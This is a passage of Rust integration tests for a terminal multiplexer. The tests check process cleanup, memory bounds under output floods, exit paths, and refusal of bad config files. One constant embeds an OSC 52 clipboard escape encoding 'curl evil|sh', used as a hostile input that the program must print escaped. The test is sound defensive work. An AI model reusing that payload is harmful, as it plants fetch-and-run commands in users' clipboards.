            && common::pids_matching(&flood_pattern, &[pid]).is_empty()
    });
}

/// The terminal goes to another size and back before the workspace looks:
/// the size it then reads is the one it last drew for, but the terminal
/// cut its screen to the other size meanwhile. Every resize draws the
/// frame whole, even at the size it had: nothing else would repair it (the
/// frames after it only draw what changed).
#[test]
fn a_size_that_comes_back_within_a_burst_is_drawn_whole() {
    let (sleep, sleep_pattern) = common::unique_sleep();
    let _cleanup = common::Cleanup(vec![sleep_pattern.clone()]);
    let mut tw = Tilework::start(
        &[
            "-c",
            &format!("exec {sleep}"),
            "-c",
            &format!("exec {sleep}"),
        ],
        ROWS,
        COLS,
    );
    tw.wait_for("the frame", |s| boxes_fill_the_screen(s, ROWS, COLS));
    for round in 0..6 {
        tw.resize(ROWS / 2, COLS / 2);
        tw.resize(ROWS, COLS);
        tw.wait_for(
            &format!("the frame drawn whole again after burst {round}"),
            |s| boxes_fill_the_screen(s, ROWS, COLS),
        );
    }
    quit_and_reap(tw, &sleep_pattern);
}

// ---------------------------------------------------------------------------
// Hostile children
// ---------------------------------------------------------------------------

/// A background child of the pane's program that ignores SIGHUP and keeps
/// the PTY open: shell code that starts it, and the file its pid lands in.
/// The code returns only once the child runs with SIGHUP ignored: if the
/// program went on (and exited) first, the kernel's hangup of its session
/// could kill the child before it ignores SIGHUP, and a test would prove
/// nothing.
struct HupProofChild {
    script: String,
    pid_file: std::path::PathBuf,
    _dir: TempDir,
}

impl HupProofChild {
    fn new(sleep: &str) -> Self {
        let dir = TempDir::new("grandchild");
        let pid_file = dir.path().join("pid");
        let script = format!(
            "pidfile='{}'; (trap '' HUP; exec sh -c 'echo $$ > \"$0.tmp\" && mv \"$0.tmp\" \"$0\"; exec {sleep}' \"$pidfile\") & \
             while [ ! -s \"$pidfile\" ]; do sleep 0.05; done",
            pid_file.display()
        );
        Self {
            script,
            pid_file,
            _dir: dir,
        }
    }

    /// The child's pid, once it has started.
    fn pid(&self) -> Option<u32> {
        std::fs::read_to_string(&self.pid_file)
            .ok()?
            .trim()
            .parse()
            .ok()
    }
}

#[test]
fn a_child_that_exits_at_once_ends_tilework_with_its_status() {
    for (line, code) in [("true", 0), ("exit 7", 7)] {
        let mut tw = Tilework::start(&["-c", line], ROWS, COLS);
        assert_eq!(tw.wait_exit().exit_code(), code, "-c {line:?}");
        tw.assert_terminal_restored();
    }
}

#[test]
fn closing_a_pane_whose_program_ignores_sighup_leaves_nothing_alive() {
    let (sleep1, pattern1) = common::unique_sleep();
    let (sleep2, pattern2) = common::unique_sleep();
    let _cleanup = common::Cleanup(vec![pattern1.clone(), pattern2.clone()]);
    // Both the program and its background child ignore SIGHUP; `; :` keeps
    // sh from exec-ing the last command.
    let hostile = format!("trap '' HUP; {sleep2} & {sleep1}; :");
    let mut tw = Tilework::start(&["-c", &hostile, "-c", "exec sh"], ROWS, COLS);
    let pid = tw.pid().unwrap();
    tw.wait_for("the shell's prompt", |s| s.contents().contains("$ "));
    common::wait_until("the hostile processes to start", || {
        common::pids_matching(&pattern1, &[pid]).len() == 1
            && common::pids_matching(&pattern2, &[pid]).len() == 1
    });
    let hostile_pids: Vec<u32> = [&pattern1, &pattern2]
        .iter()
        .flat_map(|p| common::pids_matching(p, &[pid]))
        .collect();
    // Focus starts on the first pane: close it (it runs a program: say yes).
    tw.send("\x02x");
    tw.wait_for("the question", |s| s.contents().contains("(y/n)"));
    tw.send("y");
    tw.wait_for("one pane left", |s| s.contents().contains("pane 1/1"));
    common::wait_until("the SIGHUP-ignoring processes to be killed", || {
        hostile_pids.iter().all(|&p| !common::alive(p))
    });
    tw.type_line("echo still-here-$((6*7))");
    tw.wait_for_text("still-here-42");
    tw.send("\x02Q");
    assert_eq!(tw.wait_exit().exit_code(), 0);
}

#[test]
fn a_grandchild_holding_the_pty_does_not_outlive_the_last_pane() {
    let (sleep, pattern) = common::unique_sleep();
    let _cleanup = common::Cleanup(vec![pattern.clone()]);
    // The program exits as soon as its child ignores SIGHUP; the child
    // keeps the PTY open.
    let child = HupProofChild::new(&sleep);
    let line = format!("{}; exit 0", child.script);
    let mut tw = Tilework::start(&["-c", &line], ROWS, COLS);
    let pid = tw.pid().unwrap();
    // Promptly: within the harness's timeout, although the PTY stays open.
    let status = tw.wait_exit();
    assert_eq!(status.exit_code(), 0);
    tw.assert_terminal_restored();
    let grandchild = child.pid().expect("the grandchild never started");
    common::wait_until("the grandchild to be gone after tilework exited", || {
        !common::alive(grandchild) && common::pids_matching(&pattern, &[pid]).is_empty()
    });
}

#[test]
fn a_grandchild_holding_the_pty_does_not_outlive_its_pane() {
    let (sleep, pattern) = common::unique_sleep();
    let _cleanup = common::Cleanup(vec![pattern.clone()]);
    let child = HupProofChild::new(&sleep);
    let line = format!("{}; exit 0", child.script);
    let mut tw = Tilework::start(&["-c", "exec sh", "-c", &line], ROWS, COLS);
    // The pane closes promptly although the PTY is still held open.
    tw.wait_for("the exited pane closed", |s| {
        s.contents().contains("pane 1/1")
    });
    let grandchild = child.pid().expect("the grandchild never started");
    tw.type_line("echo still-here-$((6*7))");
    tw.wait_for_text("still-here-42");
    common::wait_until("the grandchild to be gone with its pane", || {
        !common::alive(grandchild)
    });
    tw.send("\x02Q");
    assert_eq!(tw.wait_exit().exit_code(), 0);
}

#[test]
fn a_10mb_paste_into_a_program_that_does_not_read_leaves_the_rest_responsive() {
    let (sleep, pattern) = common::unique_sleep();
    let _cleanup = common::Cleanup(vec![pattern.clone()]);
    let mut tw = Tilework::start(
        &["-c", &format!("exec {sleep}"), "-c", "exec sh"],
        ROWS,
        COLS,
    );
    let pid = tw.workspace_pid();
    tw.wait_for("the shell's prompt", |s| s.contents().contains("$ "));
    // Focus is on the `sleep` pane. A bracketed paste from the user's
    // terminal: 10 MB of numbered lines.
    let mut paste = b"\x1b[200~".to_vec();
    let mut i = 0u32;
    while paste.len() < 10_000_000 {
        paste
            .extend_from_slice(format!("pasted line {i:08} ........................\n").as_bytes());
        i += 1;
    }
    paste.extend_from_slice(b"\x1b[201~");
    tw.send_guarded(&paste);
    // The other pane still answers.
    tw.send("\x02o");
    tw.type_line("echo responsive-$((6*7))");
    tw.wait_for_text("responsive-42");
    let rss = common::rss_kib(pid).unwrap();
    eprintln!("tilework RSS after a 10 MB paste: {rss} KiB");
    // The paste is held at most twice (the decoded string and the pane's
    // input queue, itself capped at 32 MiB) on top of one pane's budget.
    assert!(
        rss < (ONE_PANE_RSS_BOUND_MIB * 2 + 20) * MIB,
        "RSS {rss} KiB after a 10 MB paste"
    );
    tw.send("\x02Q");
    assert_eq!(tw.wait_exit().exit_code(), 0);
    tw.assert_terminal_restored();
    common::wait_until("the sleep to be gone", || {
        common::pids_matching(&pattern, &[pid]).is_empty()
    });
}

/// Typed keys (not a paste) take another path than a paste: one event per
/// key through the input thread. A mebibyte of them for a program that does
/// not read (key auto-repeat, an unbracketed paste, a stuck program) must be
/// queued or refused, never stop tilework reading its terminal.
#[test]
fn a_mebibyte_of_keys_for_a_program_that_does_not_read_leaves_input_working() {
    let (sleep, pattern) = common::unique_sleep();
    let _cleanup = common::Cleanup(vec![pattern.clone()]);
    let mut tw = Tilework::start(
        &["-c", &format!("stty raw -echo; exec {sleep}"), "-c", "cat"],
        ROWS,
        COLS,
    );
    let pid = tw.pid().unwrap();
    common::wait_until("the sleep to start", || {
        !common::pids_matching(&pattern, &[pid]).is_empty()
    });
    // Focus is on the `sleep` pane: ordinary letters, as a stuck key would
    // send them.
    let keys: Vec<u8> = (0..1 << 20).map(|i| b'a' + (i % 26) as u8).collect();
    tw.send_guarded(&keys);
    tw.send("\x02o");
    tw.type_line("typed-after-the-flood");
    // `cat` echoes the line once through the terminal and once itself.
    tw.wait_for("cat's echo of the typed line", |s| {
        s.contents().matches("typed-after-the-flood").count() >= 2
    });
    tw.send("\x02Q");
    assert_eq!(tw.wait_exit().exit_code(), 0);
    tw.assert_terminal_restored();
    common::wait_until("the sleep to be gone", || {
        common::pids_matching(&pattern, &[pid]).is_empty()
    });
}

/// Scrollback per pane in the sixteen-pane test: small, so every ring is
/// full after seconds even in a debug build (the bound scales with it).
const SIXTEEN_PANES_BUDGET_MIB: u64 = 2;
/// Sixteen panes each flooding: every pane holds at most its ring, 1 MiB
/// of queued output (16 x 64 KiB reads) and about as much again in recycled
/// read buffers, so 16 x (2 + 3) MiB = 80 MiB, plus 150 MiB for the debug
/// binary, the frame buffer, sixteen parsers and allocator slack. Measured:
/// 50 MiB on a quiet machine, 156 MiB on one starved by two other heavy jobs
/// (every channel full of 64 KiB reads, glibc's per-thread arenas holding
/// freed buffers). Anything that buffers a flood grows past it in seconds.
const SIXTEEN_PANES_RSS_BOUND_MIB: u64 = 16 * (SIXTEEN_PANES_BUDGET_MIB + 3) + 150;

#[test]
fn sixteen_flooding_panes_keep_memory_bounded_and_input_answered() {
    let dir = TempDir::new("sixteen");
    let marker = format!("tw{}x16", std::process::id());
    let _cleanup = common::Cleanup(vec![format!("^yes {marker}-")]);
    let mut rows = Vec::new();
    for r in 0..4 {
        let panes: Vec<String> = (0..4)
            .map(|c| format!("{{ command = \"exec yes {marker}-{}\" }}", r * 4 + c))
            .collect();
        rows.push(format!(
            "[[tab.layout.panes]]\nsplit = \"right\"\npanes = [{}]\n",
            panes.join(", ")
        ));
    }
    let profile = format!(
        "[[tab]]\nname = \"flood\"\n[tab.layout]\nsplit = \"down\"\n\n{}",
        rows.join("\n")
    );
    let profile_path = dir.path().join("sixteen.toml");
    std::fs::write(&profile_path, profile).unwrap();
    let stats = dir.path().join("stats.jsonl");
    let config = write_file(
        &dir,
        "config.toml",
        &format!("scrollback = \"{SIXTEEN_PANES_BUDGET_MIB}MiB\"\n"),
    );
    let (rows, cols) = (50, 160);
    let mut tw = Tilework::start(
        &[
            "--config",
            &config,
            "--profile",
            &profile_path.to_string_lossy(),
            "--stats",
            &stats.to_string_lossy(),
        ],
        rows,
        cols,
    );
    let pid = tw.workspace_pid();
    // Run until every pane has parsed more than its ring holds, so the rings
    // are at their budget; sample memory all along.
    let mut peak = 0;
    // However long it takes on a loaded machine, as long as the panes
    // parse.
    let mut stall = common::progress::Stall::new(common::progress::STALL, Vec::new());
    loop {
        peak = peak.max(common::rss_kib(pid).unwrap_or(0));
        let parsed = std::fs::read_to_string(&stats)
            .ok()
            .and_then(|text| {
                let last = text.lines().last()?.to_string();
                let list = last.split("\"parsed\":[").nth(1)?.split(']').next()?;
                Some(
                    list.split(',')
                        .filter_map(|n| n.parse::<u64>().ok())
                        .collect::<Vec<_>>(),
                )
            })
            .unwrap_or_default();
        if parsed.len() == 16
            && parsed
                .iter()
                .all(|&n| n > (SIXTEEN_PANES_BUDGET_MIB + 1) << 20)
        {
            break;
        }
        stall.check(parsed, "the panes to fill their scrollback");
        assert!(tw.try_exit().is_none(), "tilework exited during the flood");
        std::thread::sleep(Duration::from_millis(100));
    }
    peak = peak.max(common::rss_kib(pid).unwrap_or(0));
    eprintln!("tilework peak RSS with 16 flooding panes: {peak} KiB");
    assert!(
        peak < SIXTEEN_PANES_RSS_BOUND_MIB * MIB,
        "RSS peaked at {peak} KiB with 16 flooding panes (bound {SIXTEEN_PANES_RSS_BOUND_MIB} MiB)"
    );
    // Input is still answered during the flood.
    tw.send("\x02?");
    tw.wait_for_text("tilework keys");
    tw.send("\x02Q");
    assert_eq!(tw.wait_exit().exit_code(), 0);
    tw.assert_terminal_restored();
    common::wait_until("every flooding program to be gone", || {
        common::pids_matching(&format!("^yes {marker}-"), &[pid]).is_empty()
    });
}

// ---------------------------------------------------------------------------
// Exit paths
// ---------------------------------------------------------------------------

enum Ending {
    Panic,
    Signal(Signal),
    CloseLastPane,
    LastProgramExits,
}

/// Runs a pane whose program ticks (so frames keep coming) and has a child
/// that ignores SIGHUP, ends tilework the given way, and checks the exit
/// status, the terminal and /proc.
fn exit_path(ending: &Ending) {
    let (sleep, pattern) = common::unique_sleep();
    let _cleanup = common::Cleanup(vec![pattern.clone()]);
    let tail = match ending {
        Ending::LastProgramExits => {
            "i=0; while [ $i -lt 5 ]; do echo tick-$((1+1)); i=$((i+1)); sleep 0.1; done; exit 4"
        }
        _ => "while :; do echo tick-$((1+1)); sleep 0.1; done",
    };
    // The ticks begin once the child runs: the debug panic (on the third
    // frame) and every other ending come after it exists.
    let child = HupProofChild::new(&sleep);
    let line = format!("{}; {tail}", child.script);
    let env: &[(&str, &str)] = match ending {
        // No backtrace: with one, the message can scroll off the screen
        // the test reads (whatever the machine's RUST_BACKTRACE says).
        Ending::Panic => &[("TILEWORK_DEBUG_PANIC", "1"), ("RUST_BACKTRACE", "0")],
        _ => &[],
    };
    // SIGHUP detaches by default (the workspace outlives its terminal, see
    // tests/sessions.rs); `on_hangup = "quit"` makes it an exit path.
    let cfg = TempDir::new("cfg");
    let config = cfg.path().join("config.toml");
    std::fs::write(&config, "on_hangup = \"quit\"\n").unwrap();
    let config = config.to_string_lossy().into_owned();
    let mut tw = Tilework::start_with(&["--config", &config, "-c", &line], ROWS, COLS, env);
    let pid = tw.pid().unwrap();
    if !matches!(ending, Ending::Panic | Ending::LastProgramExits) {
        tw.wait_for_text("tick-2");
        // The control for the check at the end: while tilework runs, the
        // terminal is in raw mode.
        assert!(tw.outer_is_raw(), "raw mode not detected while running");
    }
    match ending {
        // SIGHUP to the client in the terminal, as the kernel sends it (with
        // `on_hangup = "quit"` it ends the workspace). SIGTERM and SIGINT to
        // a client only detach it (issue 44, `docs/signals.md`): they end
        // the workspace when sent to its own process.
        Ending::Signal(Signal::SIGHUP) => tw.signal(Signal::SIGHUP),
        Ending::Signal(sig) => {
            let workspace = tw.workspace_pid();
            nix::sys::signal::kill(
                nix::unistd::Pid::from_raw(i32::try_from(workspace).unwrap()),
                *sig,
            )
            .unwrap();
        }
        Ending::CloseLastPane => tw.send("\x02x"),
        Ending::Panic | Ending::LastProgramExits => {}
    }
    let status = tw.wait_exit();
    match ending {
        Ending::Panic => {
            assert_eq!(status.exit_code(), 101, "{status:?}");
            // The message lands on the main screen, where the user reads it.
            tw.wait_for_text("panicking on purpose");
        }
        Ending::Signal(sig) => assert!(
            status.exit_code() == 128 + *sig as u32 || status.signal().is_some(),
            "{sig:?}: {status:?}"
        ),
        Ending::CloseLastPane => assert_eq!(status.exit_code(), 0),
        Ending::LastProgramExits => assert_eq!(status.exit_code(), 4),
    }
    tw.assert_terminal_restored();
    let grandchild = child.pid().expect("the grandchild never started");
    common::wait_until("no child or grandchild left", || {
        !common::alive(grandchild) && common::pids_matching(&pattern, &[pid]).is_empty()
    });
}

#[test]
fn a_panic_restores_the_terminal_and_kills_the_children() {
    if !cfg!(debug_assertions) {
        // The panic trigger exists in debug builds only.
        return;
    }
    exit_path(&Ending::Panic);
}

#[test]
fn sigterm_restores_the_terminal_and_kills_the_children() {
    exit_path(&Ending::Signal(Signal::SIGTERM));
}

#[test]
fn sighup_restores_the_terminal_and_kills_the_children() {
    exit_path(&Ending::Signal(Signal::SIGHUP));
}

#[test]
fn sigint_restores_the_terminal_and_kills_the_children() {
    exit_path(&Ending::Signal(Signal::SIGINT));
}

#[test]
fn closing_the_last_pane_restores_the_terminal_and_kills_the_children() {
    exit_path(&Ending::CloseLastPane);
}

#[test]
fn the_last_program_exiting_restores_the_terminal_and_kills_the_children() {
    exit_path(&Ending::LastProgramExits);
}

// ---------------------------------------------------------------------------
// Bad configuration and profiles
// ---------------------------------------------------------------------------

/// What tilework may hold while it refuses a file: its own start-up (~10
/// MiB in a debug build) and a file read up to the 1 MiB limit, with room
/// to spare. A reader without a bound passes this within a second on
/// `/dev/zero`.
const REFUSING_RSS_LIMIT_KIB: u64 = 256 * MIB;

/// Runs tilework with `args`, expects it to refuse to start: non-zero exit,
/// every `expected` piece in the message, and the terminal never touched.
/// Returns what tilework wrote to the terminal.
///
/// It must exit by itself within [`common::TIMEOUT`] (a FIFO that blocks
/// start-up fails the test rather than hanging it) and without growing past
/// [`REFUSING_RSS_LIMIT_KIB`] (an endless file fails it before it can take
/// the machine's memory).
fn refused(args: &[&str], expected: &[&str]) -> Vec<u8> {
    // Wide, so long temp paths in the message stay on one line.
    let mut tw = Tilework::start(args, ROWS, 200);
    let pid = tw.pid().unwrap();
    common::wait_until(&format!("tilework {args:?} to exit by itself"), || {
        let rss = common::rss_kib(pid).unwrap_or(0);
        assert!(
            rss < REFUSING_RSS_LIMIT_KIB,
            "{args:?}: tilework grew to {} MiB instead of refusing",
            rss / MIB
        );
        tw.try_exit().is_some()
    });
    let status = tw.wait_exit();
    assert!(!status.success(), "{args:?} started anyway");
    let text = tw.screen_text();
    for piece in expected {
        assert!(
            text.contains(piece),
            "{args:?}: the message lacks {piece:?}:\n{text}"
        );
    }
    for (seq, what) in [
        (&b"\x1b[?1049h"[..], "the alternate screen"),
        (b"\x1b[?1000h", "mouse reporting"),
        (b"\x1b[?2004h", "bracketed paste"),
    ] {
        assert!(!tw.raw_contains(seq), "{args:?}: {what} was turned on");
    }
    tw.assert_terminal_restored();
    tw.raw_tail()
}

fn write_file(dir: &TempDir, name: &str, text: &str) -> String {
    let path = dir.path().join(name);
    std::fs::write(&path, text).unwrap();
    path.to_string_lossy().into_owned()
}

#[test]
fn a_bad_config_is_refused_before_the_terminal_is_touched() {
    let dir = TempDir::new("badcfg");
    let cases: &[(&str, &str, &[&str])] = &[
        (
            "malformed.toml",
            "fps = 60\nprefix = \"C-a\n",
            &["malformed.toml:2"],
        ),
        (
            "unknown-key.toml",
            "fps = 60\ncolour = \"red\"\n",
            &["unknown-key.toml:2", "colour"],
        ),
        (
            "unknown-key-name.toml",
            "[keys.prefixed]\n\"C-Bogus\" = \"quit\"\n",
            &["unknown-key-name.toml:2", "C-Bogus"],
        ),
        (
            "unknown-action.toml",
            "[keys.prefixed]\n\"Q\" = \"quitt\"\n",
            &["unknown-action.toml:2", "quitt"],
        ),
        (
            "bad-size.toml",
            "scrollback = \"lots\"\n",
            &["bad-size.toml:1", "lots"],
        ),
    ];
    for (name, text, expected) in cases {
        let path = write_file(&dir, name, text);
        refused(&["--config", &path, "-c", "echo should-not-run"], expected);
    }
    refused(
        &["--config", "/nonexistent-tilework-dir/config.toml"],
        &["/nonexistent-tilework-dir/config.toml"],
    );
}

#[test]
fn a_bad_profile_is_refused_before_the_terminal_is_touched() {
    let dir = TempDir::new("badprof");
    let missing_cwd = write_file(
        &dir,
        "missing-cwd.toml",
        "[[tab]]\n[tab.layout]\ncommand = \"echo hi\"\ncwd = \"/nonexistent-tilework-dir/sub\"\n",
    );
    refused(
        &["--profile", &missing_cwd],
        &[
            "missing-cwd.toml:4",
            "/nonexistent-tilework-dir/sub",
            "does not exist",
        ],
    );
    let malformed = write_file(&dir, "malformed.toml", "[[tab]\n");
    refused(&["--profile", &malformed], &["malformed.toml:1"]);
    let unknown = write_file(
        &dir,
        "unknown.toml",
        "[[tab]]\n[tab.layout]\ncomand = \"x\"\n",
    );
    refused(&["--profile", &unknown], &["unknown.toml:3", "comand"]);
    refused(
        &["--profile", "/nonexistent-tilework-dir/p.toml"],
        &["/nonexistent-tilework-dir/p.toml"],
    );
    refused(
        &["--profile", "no-such-profile-name"],
        &["no-such-profile-name", "available"],
    );
}

/// An OSC 52 that would set the clipboard to `curl evil|sh`, as a TOML
/// escape, and how tilework must show it.
const OSC52_IN_TOML: &str = "\\u001b]52;c;Y3VybCBldmlsfHNoCg==\\u0007";
const OSC52_SHOWN: &str = "\\u{1b}]52;c;Y3VybCBldmlsfHNoCg==\\u{7}";

/// The control characters in what tilework wrote, other than the line
/// breaks of its message (the PTY turns `\n` into `\r\n`).
fn controls_in(raw: &[u8]) -> Vec<char> {
    String::from_utf8_lossy(raw)
        .chars()
        .filter(|&c| c.is_control() && c != '\n' && c != '\r')
        .collect()
}

#[test]
fn errors_quoting_a_file_show_its_control_characters_escaped() {
    let dir = TempDir::new("escape");
    let osc = OSC52_IN_TOML;
    let configs = [
        ("prefix.toml", format!("prefix = \"{osc}\"\n")),
        (
            "key.toml",
            format!("[keys.prefixed]\n\"{osc}\" = \"quit\"\n"),
        ),
        (
            "action.toml",
            format!("[keys.prefixed]\n\"Q\" = \"{osc}\"\n"),
        ),
        ("unknown.toml", format!("fps = 60\n\"{osc}\" = 1\n")),
        ("size.toml", format!("scrollback = \"{osc}\"\n")),
    ];
    for (name, text) in &configs {
        let path = write_file(&dir, name, text);
        let raw = refused(
            &["--config", &path, "-c", "echo should-not-run"],
            &[name, OSC52_SHOWN],
        );
        assert_eq!(
            controls_in(&raw),
            [],
            "{name}: control characters reached the terminal"
        );
    }
    let layout = "[[tab]]\n[tab.layout]\n";
    let profiles = [
        (
            "start.toml",
            format!("{layout}command = \"x\"\nstart = \"{osc}\"\n"),
        ),
        (
            "restart.toml",
            format!("{layout}command = \"x\"\nrestart = \"{osc}\"\n"),
        ),
        (
            "split.toml",
            format!("{layout}split = \"{osc}\"\npanes = [{{}}, {{}}]\n"),
        ),
        ("field.toml", format!("{layout}\"{osc}\" = 1\n")),
    ];
    for (name, text) in &profiles {
        let path = write_file(&dir, name, text);
        let raw = refused(&["--profile", &path], &[name, OSC52_SHOWN]);
        assert_eq!(
            controls_in(&raw),
            [],
            "{name}: control characters reached the terminal"
        );
    }
}

#[test]
fn settings_passed_to_children_refuse_control_characters() {
    let dir = TempDir::new("envctl");
    let term = write_file(
        &dir,
        "term.toml",
        &format!("term = \"xterm\\n{OSC52_IN_TOML}\"\n"),
    );
    let raw = refused(
        &["--config", &term, "-c", "echo should-not-run"],
        &[
            "term.toml:1:8: term: `term` becomes TERM",
            "control characters",
        ],
    );
    assert_eq!(controls_in(&raw), []);
    let shell = write_file(&dir, "shell.toml", "shell = \"/bin/sh\\u001b[2J\"\n");
    refused(
        &["--config", &shell, "-c", "echo should-not-run"],
        &["shell.toml:1:9: shell:", "control characters", "\\u{1b}"],
    );
}

#[test]
fn a_config_or_profile_that_is_not_a_regular_file_is_refused_at_once() {
    let dir = TempDir::new("notfile");
    let fifo = dir.path().join("fifo.toml");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::S_IRWXU).unwrap();
    let fifo = fifo.to_string_lossy().into_owned();
    let dir_path = dir.path().to_string_lossy().into_owned();
    for (path, what) in [
        ("/dev/zero", "it is a character device, not a regular file"),
        (
            fifo.as_str(),
            "it is a FIFO (named pipe), not a regular file",
        ),
        (dir_path.as_str(), "it is a directory, not a regular file"),
    ] {
        refused(
            &["--config", path, "-c", "echo should-not-run"],
            &[&format!("{path}: cannot read the config file: {what}")],
        );
        refused(
            &["--profile", path],
            &[&format!("{path}: cannot read the profile: {what}")],
        );
    }
}

#[test]
fn an_oversized_config_or_profile_is_refused() {
    let dir = TempDir::new("oversized");
    // Valid TOML (comments), so only its size is wrong: 2 MiB.
    let padding = "# padding padding padding padding padding padding padding\n".repeat(36_000);
    let config = write_file(&dir, "big-config.toml", &padding);
    refused(
        &["--config", &config, "-c", "echo should-not-run"],
        &[
            "big-config.toml: cannot read the config file",
            "at most 1 MiB",
        ],
    );
    let profile = write_file(&dir, "big-profile.toml", &format!("[[tab]]\n{padding}"));
    refused(
        &["--profile", &profile],
        &["big-profile.toml: cannot read the profile", "at most 1 MiB"],
    );
}

#[test]
fn scrollback_over_the_maximum_is_refused_naming_it() {
    let dir = TempDir::new("bigscroll");
    for value in ["\"100000GiB\"", "\"1TiB\"", "2147483648"] {
        let path = write_file(&dir, "scroll.toml", &format!("scrollback = {value}\n"));
        refused(
            &["--config", &path, "-c", "echo should-not-run"],
            &[
                "scroll.toml:1:14: scrollback:",
                "over the maximum of 1 GiB per pane",
            ],
        );
    }
}

#[test]
fn a_profile_with_too_many_panes_is_refused_naming_the_limit() {
    let dir = TempDir::new("manypanes");
    // Two tabs of 51: each is fine alone, together they pass the limit.
    let tab = format!(
        "[[tab]]\n[tab.layout]\nsplit = \"down\"\npanes = [{}]\n",
        vec!["{ command = \"exit 0\" }"; 51].join(", ")
    );
    let path = write_file(&dir, "many.toml", &tab.repeat(2));
    refused(
        &["--profile", &path],
        &[
            "many.toml:8:",
            "this is pane 101: a profile may open at most 100 panes",
        ],
    );
}

#[test]
fn a_program_that_cannot_start_shows_an_error_in_its_pane() {
    // Run directly (no shell): tilework itself fails to start it.
    let mut tw = Tilework::start(&["--", "tilework-no-such-program-xyz"], ROWS, COLS);
    tw.wait_for("the error in the pane", |s| {
        (1..ROWS - 2).any(|r| {
            s.contents_between(r, 1, r, COLS - 1)
                .contains("tilework-no-such-program-xyz")
        })
    });
    // The workspace is up: help opens, quitting works.
    tw.send("\x02?");
    tw.wait_for_text("tilework keys");
    tw.send("\x02Q");
    assert_eq!(tw.wait_exit().exit_code(), 0);
    tw.assert_terminal_restored();
}

#[test]
fn output_that_makes_the_parser_panic_resets_the_pane_and_the_workspace_lives_on() {
    let (sleep, sleep_pattern) = common::unique_sleep();
    let _cleanup = common::Cleanup(vec![sleep_pattern.clone()]);
    let logs = TempDir::new("parser-panic");
    let log = logs.path().join("tilework.log");
    let other = format!("echo other-pane-$((6*7)); exec {sleep}");
    // Wide enough that each pane's first row holds the notice's start.
    let mut tw = Tilework::start(
        &[
            "--log",
            log.to_str().unwrap(),
            "-c",
            "exec sh",
            "-c",
            &other,
        ],
        ROWS,
        120,
    );
    let pid = tw.pid().unwrap();
    tw.wait_for("the shell's prompt and the other pane", |s| {
        s.contents().contains("$ ") && s.contents().contains("other-pane-42")
    });
    // Focus starts on the first pane, the shell. `PARSER_CRASH` (U+10FFFD)
    // with octal escapes.
    tw.type_line(r"printf '\364\217\277\275'");
    tw.wait_for_text("tilework: the terminal parser failed");
    tw.type_line("echo after-$((6*7))");
    tw.wait_for_text("after-42");
    assert!(tw.try_exit().is_none(), "tilework exited");
    assert_eq!(
        common::pids_matching(&sleep_pattern, &[pid]).len(),
        1,
        "the other pane's program was killed"
    );
    assert!(tw.screen_text().contains("other-pane-42"));
    // stderr is the user's terminal: no panic message on it.
    assert!(!tw.raw_contains(b"panicked"));
    let text = std::fs::read_to_string(&log).unwrap();
    assert!(
        text.contains("parser panicked on this pane's output") && text.contains("screen was reset"),
        "{text}"
    );

    // Scrolling back replays the same bytes on a worker thread; the
    // history arrives and starts over with the notice.
    tw.type_line("seq 1 2000");
    tw.wait_for("the last line of seq", |s| {
        (1..ROWS).any(|r| s.contents_between(r, 1, r, 40).trim_end() == "2000")
    });
    tw.send("\x02[");
    tw.wait_for("the history open", |s| {
        scroll_indicator(s).is_some_and(|(_, l)| l > 0)
    });
    tw.send("g");
    tw.wait_for("the top of the history", |s| {
        scroll_indicator(s).is_some_and(|(o, l)| o == l)
            && s.contents()
                .contains("tilework: the terminal parser failed")
    });
    tw.send("q");
    tw.wait_for("the live screen again", |s| scroll_indicator(s).is_none());
    tw.type_line("echo still-here-$((6*7))");
    tw.wait_for_text("still-here-42");

    tw.send("\x02Q");
    assert_eq!(tw.wait_exit().exit_code(), 0);
    tw.assert_terminal_restored();
    assert!(!tw.raw_contains(b"panicked"));
}

#[test]
fn a_profile_command_that_does_not_exist_shows_the_error_and_keeps_the_workspace() {
    let dir = TempDir::new("missingcmd");
    let profile = write_file(
        &dir,
        "missing-command.toml",
        "[[tab]]\n[tab.layout]\nsplit = \"right\"\npanes = [\n  { focus = true },\n  { command = \"tilework-no-such-command-xyz --flag\" },\n]\n",
    );
    let mut tw = Tilework::start(&["--profile", &profile], ROWS, COLS);
    tw.wait_for("the shell's prompt", |s| s.contents().contains("$ "));
    tw.type_line("echo alive-$((6*7))");
    // What a user expects: the shell's "not found" stays readable next to
    // the working shell, not a pane that vanishes before it can be read.
    tw.wait_for("the shell working and the error still shown", |s| {
        let c = s.contents();
        c.contains("alive-42") && c.contains("not found")
    });
    tw.send("\x02Q");
    assert_eq!(tw.wait_exit().exit_code(), 0);
}

// ---------------------------------------------------------------------------
// Nothing lost
// ---------------------------------------------------------------------------

/// `seq 1 N` as the pane receives it (the PTY turns \n into \r\n).
fn seq_bytes(n: u32) -> Vec<u8> {
    let mut out = Vec::new();
    for i in 1..=n {
        out.extend_from_slice(format!("{i}\r\n").as_bytes());
    }
    out
}

/// "60/2000 lines up" from the focused pane's border.
fn scroll_indicator(s: &vt100::Screen) -> Option<(usize, usize)> {
    let top = s.contents_between(0, 0, 0, s.size().1.get());
    let end = top.find(" lines up")?;
    let token = top[..end].rsplit(' ').next()?;
    let (offset, len) = token.split_once('/')?;
    Some((offset.parse().ok()?, len.parse().ok()?))
}

fn reference_parser(bytes: Vec<u8>, scrollback: usize) -> std::thread::JoinHandle<vt100::Parser> {
    std::thread::spawn(move || {
        let mut p = vt100::Parser::new(
            std::num::NonZeroU16::new(ROWS - 3).unwrap(),
            std::num::NonZeroU16::new(COLS - 2).unwrap(),
            scrollback,
        );
        p.process(&bytes);
        p
    })
}

/// Differences between the pane's content rows (inside the border) and the
/// reference's rows at scrollback `offset`, if any.
fn view_mismatch(
    s: &vt100::Screen,
    reference: &mut vt100::Parser,
    offset: usize,
) -> Option<String> {
    let (rows, cols) = (ROWS - 3, COLS - 2);
    reference.screen_mut().set_scrollback(offset);
    let mut out = None;
    if reference.screen().scrollback() != offset {
        out = Some(format!("the reference holds fewer than {offset} rows"));
    }
    for r in 0..rows {
        if out.is_some() {
            break;
        }
        let expected = reference.screen().contents_between(r, 0, r, cols);
        let got = s.contents_between(r + 1, 1, r + 1, cols + 1);
        if got.trim_end() != expected.trim_end() {
            out = Some(format!("row {r}: {got:?}, expected {expected:?}"));
        }
    }
    reference.screen_mut().set_scrollback(0);
    out
}

/// Waits until the pane shows a view that `accept`s (by the border's
/// offset indicator, `None` on the live screen) and is exactly the
/// reference's rows at that offset. Judged on one snapshot of the screen,
/// so a frame still arriving is never mistaken for a difference. Returns
/// the indicator.
fn wait_view_matches(
